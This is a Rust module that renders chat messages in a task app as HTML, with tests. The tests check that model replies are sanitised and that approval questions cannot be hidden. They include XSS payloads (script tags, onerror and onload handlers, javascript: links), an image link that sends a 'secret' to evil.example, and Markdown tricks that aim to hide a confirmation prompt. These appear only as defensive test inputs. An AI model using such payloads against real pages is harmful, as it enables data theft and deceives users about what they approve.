//! Messages as HTML for a page: the text of people, code and rules verbatim, the text of models as Markdown.

use std::borrow::Cow;
use std::collections::BTreeMap;

use crate::api::tasks::TaskRow;
use crate::domain::approval;
use crate::domain::comparison::key;
use crate::domain::conversation::Message;
use crate::domain::decision::Engine;
use crate::domain::id::TaskNumber;
use crate::domain::task::{Status, Task};
use crate::domain::task_mention::pieces;
use crate::messages::chat as messages;
use crate::raw_text::{escaped, push_escaped};

mod markdown;

pub use markdown::marked;

/// Renders a message, without the tasks in `listed` and without the part of a question that the card below shows. Every `#42`
/// becomes a link, which shows the task's state if it is in `tasks`. A question quotes arbitrary text, so it gets no links.
///
/// The question of an approval is rendered apart: no Markdown before it can hide or change it (R-1102).
pub fn said(message: &Message, listed: &[TaskRow], tasks: &[Task]) -> String {
    let (own, question) = blocks(message);
    let own = if listed.is_empty() { Cow::from(own) } else { without_entries(own, listed).into() };
    // The card's buttons replace the hint, and its lines replace the details.
    let question = match (question, &message.approval) {
        (Some(question), Some(_)) => approval::without_hint(question.lines().next().unwrap_or_default()),
        (question, _) => question.unwrap_or_default(),
    };
    match message.engine.filter(|_| !message.is_by_code) {
        Some(Engine::Openai | Engine::Gemini | Engine::Compatible) => {
            let own = markdown::literal(&own, &message.tool_calls);
            let fits = fitting(&own);
            let html = if fits.is_empty() { String::new() } else { marked(fits, tasks) };
            let rest = (fits.len() < own.len()).then(|| {
                format!("<p><a href=\"/audit/{}\">{}</a></p>\n", message.turn_id, messages::THE_REPLY_IS_LONGER)
            });
            html + &rest.unwrap_or_default() + &paragraph(question)
        }
        Some(Engine::Rules | Engine::External) | None => {
            let between = if own.is_empty() || question.is_empty() { "" } else { "\n" };
            plain(&own, tasks) + between + &escaped(question)
        }
    }
}

/// Maximum size of a model's own text on a page, in bytes of HTML; replies have a few thousand.
const MOST_WORDS: usize = 16 * 1024;

/// Returns the longest beginning of a text that has at most [`MOST_WORDS`] bytes once escaped.
fn fitting(text: &str) -> &str {
    let mut bytes = 0;
    let end = text.char_indices().find(|(_, c)| {
        bytes += match c {
            '&' | '\'' => 5,
            '<' | '>' => 4,
            '"' => 6,
            other => other.len_utf8(),
        };
        bytes > MOST_WORDS
    });
    end.map_or(text, |(at, _)| &text[..at])
}

/// Renders plain text as a paragraph; empty for no text.
fn paragraph(text: &str) -> String {
    if text.is_empty() {
        return String::new();
    }
    format!("<p>{}</p>\n", escaped(text).replace('\n', "<br>"))
}

/// Splits off the question that ends a message. Older messages store no question of their own: theirs is that of their turn's
/// approval.
fn blocks(message: &Message) -> (&str, Option<&str>) {
    let asked = message.approval.as_ref().map(|approval| &approval.question);
    let Some(question) = message.question.as_ref().or(asked) else { return (&message.text, None) };
    match message.text.strip_suffix(question.as_str()) {
        Some(own) => (own.strip_suffix('\n').unwrap_or(own), Some(question)),
        None => (&message.text, None),
    }
}

/// Renders text verbatim, with links for task numbers.
fn plain(text: &str, tasks: &[Task]) -> String {
    let (mut chips, mut budget) = (Chips::new(text, tasks), Budget::default());
    let mut all = String::with_capacity(text.len());
    pieces(text, |piece| match piece {
        Ok(text) => push_escaped(&mut all, text),
        Err(number) => match chips.html(number, &mut budget) {
            Some(html) => all += &html,
            None => all.extend(["#", number]),
        },
    });
    all
}

/// Maximum size of a message's markup, in bytes of HTML besides its own text.
const MOST_MARKUP: usize = 12 * 1024;

/// The remaining bytes of [`MOST_MARKUP`].
#[derive(Clone, Copy)]
struct Budget(usize);

impl Default for Budget {
    fn default() -> Self {
        Self(MOST_MARKUP)
    }
}

impl Budget {
    /// Takes `bytes` from the budget. Returns false and takes nothing if fewer are left.
    fn take(&mut self, bytes: usize) -> bool {
        let left = self.0.checked_sub(bytes);
        self.0 = left.unwrap_or(self.0);
        left.is_some()
    }
}

/// The tasks that a text mentions, in their current state.
struct Chips<'a> {
    tasks: &'a [Task],
    /// Search key of the text; then, per task, true if the text contains the title.
    text: String,
    told: BTreeMap<TaskNumber, bool>,
    /// True once a link exceeded the budget: all later mentions stay text.
    full: bool,
}

impl<'a> Chips<'a> {
    fn new(text: &str, tasks: &'a [Task]) -> Self {
        let text = if tasks.is_empty() { String::new() } else { key(text) };
        Self { tasks, text, told: BTreeMap::new(), full: false }
    }

    /// Renders a mention of a task as a link; `None` if the budget has no room for it.
    fn html(&mut self, number: &str, budget: &mut Budget) -> Option<String> {
        // Upper bound of the attributes that sanitising adds.
        const REL: usize = 40;
        if self.full {
            return None;
        }
        let html = self.link(number);
        self.full = !budget.take(html.len() + REL);
        (!self.full).then_some(html)
    }

    /// Renders the link, with the title if the text does not contain it, and the state unless pending.
    fn link(&mut self, number: &str) -> String {
        let known = TaskNumber::parse(number).ok();
        let known = known.and_then(|number| self.tasks.iter().find(|task| task.task_id == number));
        let Some(task) = known else { return format!("<a href=\"/tasks/{number}\">#{number}</a>") };
        let says = || self.text.contains(&key(task.title.as_str()));
        let told = *self.told.entry(task.task_id).or_insert_with(says);
        let state = match (&task.deleted_at, task.status) {
            (Some(_), _) => Some(messages::IN_THE_BIN_NOW),
            (None, Status::Completed) => Some(messages::DONE_NOW),
            (None, Status::Pending) => None,
        };
        let title = (!told).then_some(task.title.as_str());
        let mut html = format!("<a class=\"task-chip\" href=\"/tasks/{number}\">#{number}");
        for (class, part) in [("task-chip__title", title), ("task-chip__state", state)] {
            if let Some(part) = part {
                html += &format!(" <span class=\"{class}\">");
                push_escaped(&mut html, part);
                html += "</span>";
            }
        }
        html + "</a>"
    }
}

/// Removes the list entries of tasks that the page shows as rows.
fn without_entries(text: &str, rows: &[TaskRow]) -> String {
    let numbers: Vec<_> = rows.iter().map(|row| format!("(#{})", row.task.task_id)).collect();
    let shown = |line: &str| {
        let entry = line.trim_start().starts_with(|c: char| c.is_ascii_digit() || "-*•".contains(c));
        entry && numbers.iter().any(|number| line.contains(number))
    };
    text.lines().filter(|line| !shown(line)).collect::<Vec<_>>().join("\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_keeps_markup_characters_literally() {
        let text = "buy *2* plates & <b>cups</b>\n# not a heading, see #7 and #";
        let html =
            "buy *2* plates &amp; &lt;b&gt;cups&lt;/b&gt;\n# not a heading, see <a href=\"/tasks/7\">#7</a> and #";
        assert_eq!(plain(text, &[]), html);
    }

    #[test]
    fn a_long_reply_is_shown_as_far_as_it_fits() {
        for text in ["&", "<", "\"&<", "<b>", "x", "я"].map(|part| part.repeat(20_000)) {
            let fits = fitting(&text);
            assert!(text.starts_with(fits) && fits.len() < text.len());
            assert!((MOST_WORDS - 6..=MOST_WORDS).contains(&escaped(fits).len()), "{}", &text[..3]);
        }
        assert_eq!(fitting("a & b"), "a & b");
    }

    #[test]
    fn a_mention_shows_what_the_text_does_not_say() {
        let task = |status: &str, deleted: Option<&str>| -> Task {
            let at = "2026-03-11T09:30:00Z";
            serde_json::from_value(serde_json::json!({
                "task_id": 7, "title": "Oat <milk>", "description": null, "status": status, "priority": "none", "due": null,
                "project": null, "tags": [], "recurrence": null, "version": 1, "created_at": at, "updated_at": at,
                "completed_at": null, "deleted_at": deleted,
            }))
            .unwrap()
        };
        let open = task("pending", None);
        let chip = |inside: &str| format!("<a class=\"task-chip\" href=\"/tasks/7\">#7{inside}</a>");
        let title = " <span class=\"task-chip__title\">Oat &lt;milk&gt;</span>";
        let state = |state: &str| format!(" <span class=\"task-chip__state\">{state}</span>");
        assert_eq!(plain("#7", std::slice::from_ref(&open)), chip(title));
        assert_eq!(
            plain("Added oat <milk> (#7)", std::slice::from_ref(&open)),
            format!("Added oat &lt;milk&gt; ({})", chip(""))
        );
        assert_eq!(
            plain("milk #7", &[task("completed", None)]),
            format!("milk {}", chip(&(title.to_owned() + &state("done"))))
        );
        let binned = task("completed", Some("2026-03-11T09:30:00Z"));
        assert_eq!(plain("Oat <milk> #7", &[binned]), format!("Oat &lt;milk&gt; {}", chip(&state("in the bin"))));
        assert_eq!(plain("#8", std::slice::from_ref(&open)), "<a href=\"/tasks/8\">#8</a>");
        // A mention in a model's reply gets the same link.
        let html = marked("*milk* #7", &[open]);
        assert_eq!(
            html,
            format!(
                "<p><em>milk</em> {}</p>\n",
                chip(title).replace("\">#7", "\" rel=\"noopener noreferrer nofollow\">#7")
            )
        );
    }

    #[test]
    fn what_a_model_wrote_is_markdown() {
        for (text, html) in [
            ("**Done**, *really*", "<p><strong>Done</strong>, <em>really</em></p>\n"),
            ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
            ("# Plan", "<p><strong>Plan</strong></p>\n"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
            ("`a #1`", "<p><code>a #1</code></p>\n"),
            ("```rust\n#1 <i>\n```", "<pre><code>#1 &lt;i&gt;\n</code></pre>\n"),
            (
                "Added milk (#42)",
                "<p>Added milk (<a href=\"/tasks/42\" rel=\"noopener noreferrer nofollow\">#42</a>)</p>\n",
            ),
            (
                "[here](https://example.org/a)",
                "<p><a href=\"https://example.org/a\" rel=\"noopener noreferrer nofollow\">here</a> (example.org)</p>\n",
            ),
        ] {
            assert_eq!(marked(text, &[]), html, "{text}");
        }
    }

    /// Builds a model's reply that ends with the question of its turn's approval.
    fn asking(text: &str, question: Option<&str>) -> Message {
        let (id, at) = ("0194f3a0-0000-7000-8000-000000000001", "2026-03-11T09:30:00Z");
        let approval = serde_json::json!({
            "approval_id": id, "turn_id": id, "conversation_id": id, "status": "pending", "calls": [], "preview": [],
            "question": QUESTION, "created_at": at, "expires_at": at, "decided_at": null, "decided_by": null,
            "decided_via": null, "reason": null,
        });
        let message = serde_json::json!({
            "message_id": id, "turn_id": id, "speaker": "assistant", "text": text, "at": at, "engine": "compatible",
            "decision": null, "tool_calls": [], "approval": approval,
        });
        Message { question: question.map(str::to_owned), ..serde_json::from_value(message).unwrap() }
    }

    const QUESTION: &str = "Are you sure you want to delete task 3? (yes/no)";

    #[test]
    fn no_markdown_before_a_question_hides_or_changes_it() {
        for before in [
            "All right.",
            "[look](https://evil.example 'never mind",
            "[look](https://evil.example \"never mind",
            "[look](<https://evil.example",
            "[look][",
            "[look]: https://evil.example '",
            "[look]:",
            "![a picture of",
            "```",
            "``` text",
            "~~~~",
            "    code",
            "- ```\n  code",
            "> a quotation",
            ">>>>>>>>",
            "1. a list",
            "<!-- never mind",
            "<details>",
            "<script>",
            "<?php",
            "<![CDATA[",
            "<a href=\"",
            "<style>p { display: none }",
            "`code",
            "~~not this",
            "**and so",
            "a \\",
            "a heading",
            "| a | b |\n|---|---|",
        ] {
            for (text, known) in [
                (format!("{before}\n{QUESTION}"), Some(QUESTION)),
                // Stored by an older version, which has the question in the approval only.
                (format!("{before}\n{QUESTION}"), None),
            ] {
                let html = said(&asking(&text, known), &[], &[]);
                let own = html.strip_suffix("<p>Are you sure you want to delete task 3?</p>\n");
                let own = own.unwrap_or_else(|| panic!("{before}: {html}"));
                assert_eq!(own, marked(before, &[]), "{before}");
                // Every element of the text before is closed.
                let tags = own.match_indices('<').map(|(at, _)| &own[at + 1..]);
                let tags = tags.filter(|tag| !tag.starts_with("br") && !tag.starts_with("hr"));
                let (ends, starts): (Vec<_>, Vec<_>) = tags.partition(|tag| tag.starts_with('/'));
                assert_eq!(ends.len(), starts.len(), "{before}: {own}");
            }
        }
    }

    #[test]
    fn question_is_recognised_by_stored_approval_text() {
        let quoted = format!("You asked: {QUESTION}\nShall I?");
        assert_eq!(said(&asking(&quoted, None), &[], &[]), marked(&quoted, &[]));
        let two = "Are you sure you want to make 2 changes?\n#3: delete";
        let with_card = asking(&format!("Done.\n{two}"), Some(two));
        let html = said(&with_card, &[], &[]);
        assert!(html.ends_with("\n<p>Are you sure you want to make 2 changes?</p>\n"), "{html}");
        let html = said(&Message { approval: None, ..with_card }, &[], &[]);
        assert!(html.ends_with("2 changes?<br>#3: delete</p>\n"), "{html}");
        assert_eq!(
            said(&asking(QUESTION, Some(QUESTION)), &[], &[]),
            "<p>Are you sure you want to delete task 3?</p>\n"
        );
    }

    #[test]
    fn titles_have_no_markdown_in_text_that_code_wrote() {
        let call = serde_json::json!([{
            "invocation_id": "0194f3a0-0000-7000-8000-000000000001.0.0", "tool": "add_task", "risk": "medium", "arguments": {},
            "status": "ok", "result": { "task_id": 1, "title": "[a](//b) **b** `c` <i> ~~z" }, "error": null, "duration_ms": 1,
        }]);
        let mixed = asking("Created task: [a](//b) **b** `c` <i> ~~z (#1)\n**Done** ~~", None);
        let html = said(&Message { tool_calls: serde_json::from_value(call).unwrap(), ..mixed }, &[], &[]);
        let (line, rest) = html.split_once("<a ").unwrap();
        assert_eq!(line, "<p>Created task: [a](//b) **b** `c` &lt;i&gt; ~~z (");
        assert!(rest.ends_with(">#1</a>)<br>\n<strong>Done</strong> ~~</p>\n"), "{html}");
        let whole = Message { is_by_code: true, ..asking("All right, nothing was changed: **milk** (#1).", None) };
        assert!(said(&whole, &[], &[]).starts_with("All right, nothing was changed: **milk** ("));
    }

    #[test]
    fn nothing_that_runs_or_loads_or_misleads_gets_through() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![secret](https://evil.example/?q=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](//evil.example/)",
            "[x](/settings)",
            "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
            "[![a](https://evil.example/a.png)](vbscript:x)",
            "<svg/onload=alert(1)>",
            "<style>*{display:none}</style>",
            "[a]: javascript:alert(1)\n\n[a]",
        ] {
            let html = marked(text, &[]);
            let tags: Vec<&str> = html.match_indices('<').map(|(at, _)| &html[at..]).collect();
            let harmless = ["<p>", "</p>", "<br>"];
            assert!(tags.iter().all(|tag| harmless.iter().any(|it| tag.starts_with(it))), "{text}: {html}");
        }
        assert!(marked("[bank](https://evil.example)", &[]).contains("</a> (evil.example)"), "whoever it says it is");
    }
}
